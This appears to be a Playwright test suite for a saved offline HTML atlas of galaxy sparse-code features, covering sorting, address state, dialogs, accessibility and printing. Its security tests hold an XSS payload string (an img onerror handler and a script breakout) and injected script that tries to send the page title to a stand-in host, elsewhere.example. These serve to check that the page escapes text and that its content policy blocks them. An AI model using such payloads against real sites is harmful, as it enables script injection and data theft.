"""The saved atlas opened as a file: no server, no request, the same page."""

from __future__ import annotations

import re
from pathlib import Path

import numpy as np
import pytest
from axe_playwright_python.sync_playwright import Axe
from playwright.sync_api import expect

from sfnet_core.analysis.feature_statistics import FeatureStatistics
from sfnet_core.annotations.labels import LabelBook
from sfnet_core.codes.table import SparseCodes
from sfnet_core.explorer.atlas.page import Atlas
from sfnet_core.explorer.atlas.saved import save_page
from sfnet_core.explorer.shared.quantities import signed
from sfnet_core.explorer.shared.sample import sample_codes, sample_dataset

HOSTILE = "<img src=x onerror=document.title='acted'></script><script>document.title='acted'</script>"


@pytest.fixture(scope="module")
def saved(tmp_path_factory) -> tuple[SparseCodes, Path]:
    """The embedded sample's atlas with a label and an identifier that would act, and a note."""
    folder = tmp_path_factory.mktemp("saved")
    sample = sample_codes()
    sample.save(folder / "codes.parquet")
    codes = SparseCodes.open(folder / "codes.parquet")
    rows = np.flatnonzero(codes.split == "validation")
    first = int(FeatureStatistics(codes).table("validation", 0)["feature"][0])
    book = LabelBook.open(codes)
    book.set_feature(first, label=HOSTILE[:80], note="blue, face-on", star=True)
    codes.ids[rows[0]] = HOSTILE
    save_page(codes, folder / "atlas of it.html", sample_dataset())
    return codes, folder / "atlas of it.html"


@pytest.fixture
def page(saved, browser):
    """The file in a browser of its own; a request, an error or a refusal by the content policy fails the test."""
    address = saved[1].as_uri()
    context = browser.new_context(viewport={"width": 1440, "height": 900})
    page = context.new_page()
    page.set_default_timeout(15_000)
    troubles: list[str] = []
    ours = (address, "data:", "blob:", "about:")
    page.on("request", lambda r: None if r.url.startswith(ours) else troubles.append(f"request: {r.url[:200]}"))
    page.on("pageerror", lambda error: troubles.append(f"uncaught: {error}"))
    page.on("console", lambda m: troubles.append(f"console: {m.text}") if m.type in ("error", "warning") else None)
    page.goto(address)
    page.wait_for_selector(".sf-page")
    yield page
    context.close()
    assert not troubles, "\n".join(troubles)


def table_of(codes: SparseCodes) -> dict:
    return FeatureStatistics(codes).table("validation", 0)


def features(page) -> list[int]:
    return [int(f) for f in page.locator(".sf-card").evaluate_all("all => all.map(e => e.dataset.feature)")]


def plain(text: str) -> str:
    return text.replace("\N{MINUS SIGN}", "-")


def test_cards_sort_search_and_open_from_a_file(saved, page):
    codes, _ = saved
    table = table_of(codes)
    assert features(page) == table["feature"].tolist()
    card = page.locator(".sf-card").nth(1)
    words = plain(card.inner_text())
    for name, digits in (("weight", 4), ("mean", 4), ("pearson", 2), ("partial", 2)):
        assert f"{table[name][1]:+.{digits}f}" in words
    page.wait_for_function("() => document.querySelectorAll('.sf-card:first-child img').length === 6")
    page.wait_for_function("() => document.querySelector('.sf-card img').naturalWidth === 128")
    assert page.locator(".sf-badge").inner_text().lower() == "simulated"
    assert "RMSE 0.0891 dex (95 %: 0.0797 to 0.0984)" in page.locator(".sf-status").inner_text()

    page.get_by_label("Sort the features by").select_option("weight")
    assert features(page) == table["feature"][np.argsort(-table["weight"], kind="stable")].tolist()
    page.get_by_role("button", name="high to low").click()
    assert features(page) == table["feature"][np.argsort(table["weight"], kind="stable")].tolist()
    page.get_by_label("Lowest firing rate of the features shown").select_option("0.1")
    assert set(features(page)) == set(table["feature"][table["rate"] >= 0.1].tolist())
    page.get_by_label("Find a feature by number or label").fill("f3")
    page.wait_for_function(
        "() => [...document.querySelectorAll('.sf-card')].every(e => e.dataset.feature.startsWith('3'))"
    )
    expect(page).to_have_url(re.compile("#sort=weight&descending=0&find=f3&least=0.1$"))
    page.get_by_role("button", name="Undo").click()
    expect(page).to_have_url(re.compile("#sort=weight&descending=0&least=0.1$"))
    assert set(features(page)) == set(table["feature"][table["rate"] >= 0.1].tolist())


def test_a_feature_by_its_number_in_the_address(saved, page):
    codes, path = saved
    second, third = table_of(codes)["feature"][1:3].tolist()
    page.locator(f".sf-card[data-feature='{second}'] .sf-open").click()
    page.wait_for_selector(f".sf-leaf[data-slow='{second}']")
    expect(page).to_have_url(re.compile(f"#f{second}$"))
    # the same words and numbers as on the served page
    served = Atlas(codes, sample_dataset())
    served.state.change(feature=second)
    served.feature._receive(served.feature, {"do": "slow"}, [])
    words = plain(page.locator(".sf-leaf").inner_text())
    for one in served.feature.slow["coefficients"]:
        digits = 3 if one["high"] - one["low"] < 0.1 else 2
        assert f"{one['value']:+.3f}" in words and f"[{one['low']:+.{digits}f}, {one['high']:+.{digits}f}]" in words
    for group in served.feature.galaxies["groups"]:
        there = page.locator(f"[data-group={group['key']}] .sf-thumb").evaluate_all("all => all.map(e => e.dataset.id)")
        assert there == [one["id"] for one in group["galaxies"]]
    assert page.locator(".sf-nine img").count() == 9 and page.locator(".sf-mean-map").is_visible()
    dots = "all => all.map(e => (e.getAttribute('d').match(/h0/g) || []).length).reduce((a, b) => a + b, 0)"
    assert page.locator(".sf-part-scatter path[stroke-linecap=round]").evaluate_all(dots) == served.feature.plot["n"]
    assert page.locator(".sf-part-bpt path[stroke-linecap=round]").evaluate_all(dots) == served.feature.data["bpt"]["n"]

    page.get_by_label("Draw the activation against").select_option("lgm_tot_p50")
    assert "log stellar mass" in page.locator(".sf-part-scatter svg").text_content()
    expect(page).to_have_url(re.compile(f"#f{second}&against=lgm_tot_p50$"))
    page.keyboard.press("Escape")
    page.wait_for_selector(".sf-card")
    page.go_back()
    page.wait_for_selector(f".sf-leaf[data-slow='{second}']")
    page.keyboard.press("ArrowRight")
    page.wait_for_selector(f".sf-leaf[data-slow='{third}']")
    # a link opens on it; nonsense in a link is said, and the page opens
    page.goto("about:blank")
    page.goto(f"{path.as_uri()}#f{third}&against=z&sort=nonsense&%3Cimg%3E")
    page.wait_for_selector(f".sf-leaf[data-slow='{third}']")
    assert "redshift" in page.locator(".sf-part-scatter svg").text_content()
    assert "sort=nonsense" in page.locator(".sf-notice").inner_text()
    assert page.locator(".sf-notice img").count() == 0


def test_a_galaxy_of_it_opens_with_its_equation_and_its_catalogue(saved, page):
    codes, _ = saved
    weakest = codes.indices[codes.split == "validation", codes.k - 1]  # which pass the gate by least
    near = next(int(f) for f in table_of(codes)["feature"][1:] if (weakest == f).sum() > 2)
    page.locator(f".sf-card[data-feature='{near}'] .sf-open").click()
    page.wait_for_selector(f".sf-leaf[data-slow='{near}']")
    tile = page.locator("[data-group=gate] .sf-thumb").nth(2)
    name = tile.get_attribute("data-id")
    row = codes.index_of(name)
    tile.click()
    card = page.get_by_role("dialog", name=name)
    words = plain(card.inner_text())
    assert f"{codes.prediction()[row]:.4f} dex" in words and f"{codes.truth()[row]:.4f} dex" in words
    numbers = [float(plain(text)) for text in card.locator(".sf-bars .sf-number").all_inner_texts()[:-1]]
    assert round(sum(numbers), 4) == round(float(codes.prediction()[row]), 4)  # what is shown adds up
    terms = {
        f"f{f}": codes.weight[0, f] * a for f, a in zip(codes.indices[row, :4], codes.values[row, :4], strict=True)
    }
    shown = card.locator(".sf-bars button").all_inner_texts()
    assert {text.split(" ")[0] for text in shown} == set(terms)
    for text, number in zip(shown, numbers[1:], strict=True):
        assert number == pytest.approx(terms[text.split(" ")[0]], abs=2e-4)
    assert f"{codes.dec[row]:.5f}" in words and not card.locator("a").count()  # simulated: no place in the sky
    expect(page).to_have_url(re.compile(f"#f{near}&galaxy={name}$"))
    found = Axe().run(page).response["violations"]
    assert not [f"{v['id']}: {n['html'][:120]}" for v in found for n in v["nodes"]]
    page.keyboard.press("Escape")
    expect(page.get_by_role("dialog")).to_have_count(0)
    expect(page).to_have_url(re.compile(f"#f{near}$"))
    expect(tile).to_be_focused()  # reading goes on where it was
    page.get_by_role("button", name="Undo").click()
    card.locator(".sf-bars button", has_text=shown[1].split(" ")[0]).click()
    other = shown[1].split(" ")[0]
    page.wait_for_selector(f".sf-leaf[data-slow='{other[1:]}']")
    expect(page.get_by_role("dialog")).to_have_count(0)
    expect(page).to_have_url(re.compile(f"#{other}$"))


def test_t10_hostile_texts_are_shown_as_they_stand(saved, page):
    codes, _ = saved
    first = int(table_of(codes)["feature"][0])
    name = page.locator(f".sf-card[data-feature='{first}'] .sf-open")
    star = "e => getComputedStyle(e, '::before').content"
    assert "★" in name.evaluate(star) and "★" not in page.locator(".sf-card .sf-open").nth(1).evaluate(star)
    assert HOSTILE[:80] in name.inner_text()
    name.click()
    page.wait_for_selector(f".sf-leaf[data-slow='{first}']")
    assert HOSTILE[:80] in page.locator(".sf-leaf h2").inner_text()
    assert page.locator(".sf-leaf .sf-feature-note").inner_text() == "blue, face-on"
    assert page.locator("img[src=x]").count() == 0 and page.title() == "codes · atlas"


def test_a_program_that_got_in_would_not_run_nor_send_anything(saved, browser):
    context = browser.new_context()
    page = context.new_page()
    page.goto(saved[1].as_uri())
    page.wait_for_selector(".sf-page")
    refused = page.evaluate(
        """async () => {
          const found = [];
          document.addEventListener("securitypolicyviolation", (e) => found.push(e.effectiveDirective));
          const script = document.createElement("script");
          script.textContent = "document.title = 'acted'";
          document.body.append(script);
          const image = new Image();
          image.src = "https://elsewhere.example/?q=" + document.title;
          await fetch("https://elsewhere.example/").catch(() => 0);
          const pause = () => new Promise((done) => setTimeout(done, 200));
          for (let i = 0; i < 50 && found.length < 3; i += 1) await pause();
          await pause(); // for one too many
          return found.map((name) => name.split("-")[0]).sort();
        }"""
    )
    assert refused == ["connect", "img", "script"] and page.title() == "codes · atlas"
    context.close()


def test_tables_keys_paper_and_axe_in_light_and_dark(saved, page):
    codes, _ = saved
    table = table_of(codes)
    for key, drawn in (("2", ".sf-signs"), ("3", ".sf-matrix"), ("4", ".sf-about dl"), ("1", ".sf-card")):
        page.keyboard.press(key)
        page.wait_for_selector(drawn)
        if key == "1":
            page.locator(".sf-card .sf-open").nth(1).click()
            page.wait_for_selector(".sf-leaf[data-slow]")
        for _ in ("light, then dark", "and back"):
            found = Axe().run(page).response["violations"]
            assert not [f"{v['id']}: {n['html'][:120]}" for v in found for n in v["nodes"]], drawn
            page.keyboard.press("d")
    page.keyboard.press("Escape")
    page.keyboard.press("2")
    assert page.locator(".sf-signs tbody tr").count() == len(table["feature"])
    for values in (-table["weight"], table["weight"]):  # a column's head sorts, and again the other way round
        page.locator(".sf-sort", has_text="weight").first.press("Enter")
        rows = page.locator(".sf-signs tbody tr").evaluate_all("all => all.map(e => Number(e.dataset.feature))")
        assert rows == table["feature"][np.argsort(values, kind="stable")].tolist()
    assert page.locator(".sf-signs [aria-sort=ascending]").inner_text().startswith("weight")
    page.keyboard.press("4")
    about = page.locator(".sf-about").inner_text()
    assert codes.provenance["dataset_fingerprint"] in about and "sfnet export" in about
    page.keyboard.press("1")
    page.emulate_media(media="print")
    page.evaluate("dispatchEvent(new Event('beforeprint'))")
    page.wait_for_function("() => document.querySelectorAll('.sf-card img').length > 100")
    assert page.locator("[data-action=theme]").is_hidden() and page.locator(".sf-overview").is_hidden()
    bottoms = "e => [e, e.closest('.sf-root')].map(one => one.getBoundingClientRect().bottom)"
    card, root = page.locator(".sf-card").last.evaluate(bottoms)
    assert card <= root  # no card is cut off
    assert page.pdf(format="A4").startswith(b"%PDF")


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_the_page_follows_the_systems_theme_and_fits(saved, browser, scheme):
    context = browser.new_context(viewport={"width": 1024, "height": 768}, color_scheme=scheme)
    page = context.new_page()
    page.goto(saved[1].as_uri())
    page.wait_for_selector(".sf-page")
    assert ("sf-dark" in page.locator(".sf-root").get_attribute("class").split()) is (scheme == "dark")
    wider = """() => [...document.querySelectorAll('.sf-atlas *')]
        .filter(e => !e.closest('svg') && e.checkVisibility() && e.getBoundingClientRect().right > innerWidth + 1)
        .map(e => e.className)"""
    assert page.evaluate(wider) == []
    page.locator(".sf-card .sf-open").first.click()
    page.wait_for_selector(".sf-leaf[data-slow]")
    assert page.evaluate(wider) == []
    context.close()


def test_maps_are_less_the_empty_sky_and_unlike_galaxies_are_marked(saved, page):
    codes = saved[0]
    rows = np.flatnonzero(codes.in_split("validation") & (codes.unlike > 1))
    unlike = set(codes.ids[rows].tolist())
    strongest = int(codes.column("unlike_feature")[rows[0]])
    page.goto(f"{saved[1].as_uri()}#f{strongest}")
    page.wait_for_selector(f".sf-leaf[data-slow='{strongest}']")
    marked = page.locator(".sf-thumb:has(.sf-tile-unlike)").evaluate_all("all => all.map(e => e.dataset.id)")
    shown = page.locator(".sf-thumb").evaluate_all("all => all.map(e => e.dataset.id)")
    assert marked == [name for name in shown if name in unlike] and marked
    page.locator(".sf-thumb:has(.sf-tile-unlike)").first.click()
    page.wait_for_selector("dialog[open]")
    assert "training galaxies" in page.inner_text("dialog .sf-unlike")
    page.keyboard.press("Escape")
    feature = int(table_of(codes)["feature"][0])
    page.goto(f"{saved[1].as_uri()}#f{feature}")
    page.wait_for_selector(f".sf-leaf[data-slow='{feature}']")
    words = ".sf-looks figure:first-child figcaption"
    light, empty = re.search(
        r"the light gives ([+-][\d.]+) dex, an empty sky ([+-][\d.]+) dex", plain(page.inner_text(words))
    ).groups()
    table = table_of(codes)
    mean = float(table["mean_fires"][table["feature"].tolist().index(feature)])
    assert float(light) + float(empty) == pytest.approx(mean, abs=2e-4)
    assert float(empty) == pytest.approx(codes.weight[0, feature] * codes.sky.maps[feature].mean(), abs=1e-4)
    page.locator(".sf-sky input").click()
    page.wait_for_function(f"() => !document.querySelector('{words}').textContent.includes('empty sky')")
    assert f"sum {signed(mean, 4)} dex" in page.inner_text(words)
    page.wait_for_function("location.hash.includes('sky=0')")
    assert page.evaluate("document.activeElement.matches('.sf-sky input')")
    page.click("[aria-label='Undo']")
    page.wait_for_function(f"() => document.querySelector('{words}').textContent.includes('empty sky')")


def test_the_served_page_saves_itself(serve, open_page, browser, tmp_path):
    page = open_page(serve().replace("explore.ipynb", "atlas.ipynb"))
    with page.expect_download(timeout=60_000) as found:
        page.get_by_role("button", name="save as a page").click()
    assert found.value.suggested_filename == "embedded-sample-atlas.html"
    found.value.save_as(tmp_path / "atlas.html")
    expect(page.get_by_role("button", name="save as a page")).to_be_enabled()
    context = browser.new_context()
    saved = context.new_page()
    saved.goto((tmp_path / "atlas.html").as_uri())
    saved.wait_for_selector(".sf-page")
    assert features(saved) == features(page) and "embedded sample" in saved.locator("h1").inner_text()
    context.close()
